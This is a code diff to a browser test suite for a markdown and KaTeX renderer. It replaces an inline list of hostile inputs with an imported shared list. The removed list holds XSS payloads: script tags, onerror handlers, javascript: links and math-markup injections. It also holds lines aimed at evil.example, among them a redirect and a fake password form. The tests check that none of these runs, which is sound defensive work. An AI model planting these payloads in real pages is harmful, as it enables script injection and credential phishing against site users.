@@ -2,6 +2,7 @@ import { fileURLToPath } from 'node:url';
 import type { Page } from '@playwright/test';
 import type katex from 'katex';
 import type {} from '../gallery/main.tsx';
+import { hostileMarkdown } from '@verdict/testkit/hostile-text.ts';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { startGallery, type GalleryBrowser } from './page.ts';
 
@@ -44,42 +45,7 @@ test('names of characters are read by the browser, as the package that it stands
   );
 });
 
-const hostile = [
-  '<script>window.ran = true</script>',
-  '<img src=x onerror="window.ran = true">',
-  '<svg onload="window.ran = true"><circle/></svg>',
-  '<svg><script>window.ran = true</script></svg>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=true&gt;">',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=true>',
-  '<iframe src="javascript:window.ran = true"></iframe>',
-  '<iframe srcdoc="<script>parent.ran = true</script>"></iframe>',
-  '<object data="data:text/html,<script>parent.ran=true</script>"></object>',
-  '<embed src="javascript:window.ran=true">',
-  '<a href="javascript:window.ran = true">x</a>',
-  '<a href="java&#x09;script:window.ran = true">x</a>',
-  '[x](javascript&colon;window.ran=true)',
-  '<a href="data:text/html,<script>1</script>">x</a>',
-  '<details open ontoggle="window.ran = true">x</details>',
-  '<style>*{display:none}</style>',
-  '<link rel=stylesheet href=//evil.example/x.css>',
-  '<meta http-equiv=refresh content="0;url=//evil.example">',
-  '<base href="//evil.example/">',
-  '<form action="//evil.example"><input name=password><button>Log in</button></form>',
-  '<div style="position:fixed;inset:0">x</div>',
-  '<p class="mantine-Overlay-root" id="root" name="cookie">x</p>',
-  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
-  '<template><img src=x onerror="window.ran=true"></template>',
-  '<noscript><p title="</noscript><img src=x onerror=window.ran=true>">',
-  '<span data-math="inline">\\href{javascript:window.ran=true}{x}</span>',
-  '$\\href{javascript:window.ran=true}{x}$',
-  '$\\htmlStyle{position:fixed}{x}$ $\\htmlClass{evil}{x}$ $\\includegraphics{x.png}$',
-  '::: spoiler <img src=x onerror="window.ran=true">\n<img src=x onerror="window.ran=true">\n:::',
-  '::: spoiler </summary></details><svg onload="window.ran=true">\n</details><script>window.ran=true</script>',
-  '```<img src=x onerror=window.ran=true>\n<b onclick=x>\n```',
-  '```"onmouseover=window.ran=true x="\n1\n```',
-];
-
-test.each(hostile)('harmless: %s', async (source) => {
+test.each(hostileMarkdown)('harmless: %s', async (source) => {
   const result = await show(`before\n\n${source}\n\nafter`);
   expect(result.ran).toBe(false);
   const found = await page.evaluate((content) => {
